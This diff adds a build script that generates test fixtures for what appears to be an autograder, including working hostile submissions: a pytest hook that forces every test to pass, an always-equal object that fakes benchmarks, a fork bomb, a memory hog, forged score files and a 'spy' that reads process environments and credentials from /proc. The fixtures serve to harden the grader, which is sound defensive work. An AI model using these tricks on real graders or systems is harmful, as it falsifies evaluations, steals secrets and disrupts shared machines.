@@ -1,0 +1,205 @@
+"""Builds examples/submissions/ from the reference: `python -m examples.build`. Run it when the reference changes.
+
+Honest ones come as students send them; hostile ones each try one trick in one file, and hold honest code in another.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import shutil
+import tarfile
+import zipfile
+from pathlib import Path
+
+from lab.assignment import ROOT, default
+
+HERE = Path(__file__).parent
+BENCHMARK, TILED, NAIVE = "benchmarking/benchmark.py", "flash_attention/tiled_forward.py", "ddp/naive.py"
+LONG_AGO = (2026, 1, 1, 0, 0, 0)  # archives are the same to the byte each time
+
+
+def reference(file: str, *edits: tuple[str, str]) -> str:
+    """A file of the reference, with lines replaced; each must match exactly once."""
+    text = (ROOT / "reference" / file).read_text(encoding="utf-8")
+    for old, new in edits:
+        assert text.count(old) == 1, f"{file}: {text.count(old)} matches of {old!r}"
+        text = text.replace(old, new)
+    return text
+
+
+def stub(file: str) -> str:
+    return (ROOT / "student" / file).read_text(encoding="utf-8")
+
+
+def honest() -> dict[str, dict[str, str]]:
+    """Folder submissions by name: file -> text."""
+    return {
+        "half-done": {BENCHMARK: reference(BENCHMARK), TILED: stub(TILED), NAIVE: stub(NAIVE)},
+        "subtly-wrong": {
+            BENCHMARK: reference(BENCHMARK, ("        torch.cuda.synchronize()", "        pass")),
+            TILED: reference(TILED, ("columns > rows[:, None]", "columns >= rows[:, None] + 2")),
+            NAIVE: reference(NAIVE, ("                parameter.grad.div_(world)\n", "")),
+        },
+        "hanging": {
+            BENCHMARK: reference(BENCHMARK),
+            NAIVE: reference(
+                NAIVE,
+                (
+                    "                dist.all_reduce(parameter.grad, group=self.group)",
+                    "                if dist.get_rank() == 0:\n"
+                    "                    dist.broadcast(parameter.grad, group_src=0, group=self.group)\n"
+                    "                else:\n"
+                    "                    dist.all_reduce(parameter.grad, group=self.group)",
+                ),
+            ),
+        },
+        "crashing-at-import": {
+            BENCHMARK: reference(BENCHMARK),
+            TILED: reference(TILED, ("import torch\nfrom", "import torch\nimport einops_of_my_own\nfrom")),
+            NAIVE: reference(NAIVE),
+        },
+    }
+
+
+def hostile() -> dict[str, dict[str, str]]:
+    """One trick each in the first file; the benchmark beside it is honest unless it is the one attacked."""
+    exit_now = "import os\n\nos._exit(0)\n"
+    patch_reports = (
+        "import pytest\n\n\n@pytest.hookimpl(wrapper=True, tryfirst=True)\n"
+        "def pytest_runtest_makereport(item, call):\n"
+        '    report = yield\n    report.outcome = "passed"\n    return report\n'
+    )
+    equal_to_all = (
+        "class Anything(float):\n    __hash__ = float.__hash__\n\n"
+        "    def __eq__(self, other):\n        return True\n\n    __le__ = __ge__ = __lt__ = __gt__ = __eq__\n\n"
+        "    def __sub__(self, other):\n        return Anything(0)\n\n    __rsub__ = __truediv__ = __abs__ = __sub__\n\n\n"
+        "class Timing:\n    mean = median = standard_deviation = Anything(1)\n    samples = tuple(Anything(1) for _ in range(9))\n\n\n"
+        "def benchmark(step, *, warmup=5, steps=20):\n    for _ in range(warmup + steps):\n        step()\n    return Timing()\n"
+    )
+    fork_bomb = "import os\n\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
+    ten_gigabytes = (
+        "import torch\n\nhoard = []\nfor _ in range(10):\n"
+        "    hoard.append(torch.ones(1 << 28))  # 1 GiB each, touched\n\n"
+    ) + stub(NAIVE).partition('"""\n')[2]
+    spy = (
+        "import gc\nimport glob\nimport os\nimport sys\n\n\n"
+        "def secrets():\n"
+        '    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):\n'
+        "        try:\n"
+        '            yield open(path, "rb").read()\n'
+        "        except OSError:\n            pass\n"
+        "    yield repr(dict(os.environ)).encode()\n"
+        '    yield repr([k for o in gc.get_objects() if type(o) is dict for k in o if "expect" in str(k)][:50]).encode()\n'
+        '    for folder, _, files in os.walk("/"):\n'
+        '        if folder.startswith(("/proc", "/sys", "/usr")):\n            continue\n'
+        '        yield repr([f for f in files if f.startswith("test_") or "gradebook" in f]).encode()\n\n\n'
+        "class NaiveDDP:\n    def __init__(self, *args):\n"
+        '        raise RuntimeError(b" ".join(secrets())[:2000].decode(errors="replace"))\n'
+    )
+    forged = (
+        "import json\nimport os\n\n"
+        'forged = json.dumps({"ok": True, "score": 100, "tests": [], "blobs": [0]}).encode()\n'
+        "for fd in range(3, 64):\n    try:\n        os.write(fd, len(forged).to_bytes(8, 'little') + forged)\n    except OSError:\n        pass\n"
+        'for path in ("results.json", "/tmp/results.json", "/autograder/results/results.json", "gradebook.sqlite"):\n'
+        '    try:\n        open(path, "wb").write(forged)\n    except OSError:\n        pass\n'
+        'print("35 passed in 0.01s")\n'
+    )
+    fair = {BENCHMARK: reference(BENCHMARK)}
+    return {
+        "hostile-exit": {**fair, TILED: exit_now, NAIVE: exit_now},
+        "hostile-conftest": {
+            **fair, "conftest.py": patch_reports, "ddp/conftest.py": patch_reports, "sitecustomize.py": exit_now,
+            NAIVE: stub(NAIVE),
+        },
+        "hostile-equal-to-everything": {BENCHMARK: equal_to_all},
+        "hostile-fork-bomb": {**fair, NAIVE: fork_bomb},
+        "hostile-memory": {**fair, NAIVE: ten_gigabytes},
+        "hostile-spy": {**fair, NAIVE: spy},
+        "hostile-forged-results": {**fair, NAIVE: forged, TILED: forged},
+        "hostile-library": {
+            **fair,
+            NAIVE: "import torch\n\nNaiveDDP = getattr(torch.nn.parallel, 'Distributed' + 'DataParallel')\n"
+            "NaiveDDP.finish_gradient_synchronization = lambda self: None\n",
+        },
+    }  # fmt: skip
+
+
+def expected() -> dict[str, dict]:
+    """What each must earn; a hostile one what its honest code earns."""
+    points = {e.id: e.points for e in default().exercises.values()}
+    benchmark, tiled, naive = (k for k in ("benchmarking.benchmark", "flash_attention.tiled_forward", "ddp.naive"))
+
+    def earns(*ids: str, hostile: bool = False) -> dict:
+        return {"status": "graded", "hostile": hostile, "points": {i: p if i in ids else 0 for i, p in points.items()}}
+
+    table = {
+        "complete": earns(*points),
+        "data-parallel-only": earns(naive),
+        "half-done": earns(benchmark),
+        "subtly-wrong": earns(),
+        "hanging": earns(benchmark),
+        "crashing-at-import": earns(benchmark, naive),
+        "not-an-archive": {"status": "refused", "hostile": False, "points": dict.fromkeys(points, 0)},
+    }
+    for name, files in hostile().items():
+        table[name] = earns(*([] if files[BENCHMARK].startswith("class Anything") else [benchmark]), hostile=True)
+    return dict(sorted(table.items()))
+
+
+def build(folder: Path = HERE / "submissions") -> None:
+    """Write every submission and expected.json anew."""
+    shutil.rmtree(folder, ignore_errors=True)
+    for name, files in {**honest(), **hostile()}.items():
+        for file, text in files.items():
+            path = folder / name / file
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text, encoding="utf-8")
+    stages = [s.name for s in default().stages]
+    solutions = {
+        p.relative_to(ROOT / "reference").as_posix(): p.read_text(encoding="utf-8")
+        for stage in stages
+        for p in sorted((ROOT / "reference" / stage).rglob("*.py"))
+    }
+    (folder / "complete.zip").write_bytes(_zip(_as_students_zip(solutions)))
+    (folder / "data-parallel-only.tar.gz").write_bytes(_tar({f"ddp/{n}": solutions[f"ddp/{n}"] for n in ("naive.py",)}))
+    (folder / "not-an-archive.zip").write_bytes(b"PK but nothing of the kind\n")
+    (HERE / "expected.json").write_text(json.dumps(expected(), indent=1) + "\n", encoding="utf-8")
+
+
+def _as_students_zip(files: dict[str, str]) -> dict[str, bytes]:
+    """A folder too deep, with all that lies beside the code on a student's disk."""
+    deep = {f"assignment-main/student/{name}": text.encode() for name, text in files.items()}
+    return {
+        **deep,
+        "assignment-main/student/ddp/__pycache__/naive.cpython-311.pyc": b"\0" * 64,
+        "assignment-main/.git/HEAD": b"ref: refs/heads/main\n",
+        "assignment-main/.DS_Store": b"\0\0\0\1Bud1",
+        "assignment-main/scratch.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n',
+        "assignment-main/writeup.pdf": b"%PDF-1.4\n%%EOF\n",
+        "__MACOSX/assignment-main/._student": b"\0\5\26\7",
+    }
+
+
+def _zip(files: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in files.items():
+            archive.writestr(zipfile.ZipInfo(name, LONG_AGO), data, zipfile.ZIP_DEFLATED)
+    return buffer.getvalue()
+
+
+def _tar(files: dict[str, str]) -> bytes:
+    import gzip
+
+    buffer = io.BytesIO()
+    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as packed, tarfile.open(fileobj=packed, mode="w") as archive:
+        for name, text in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(text.encode())
+            archive.addfile(info, io.BytesIO(text.encode()))
+    return buffer.getvalue()
+
+
+if __name__ == "__main__":
+    build()
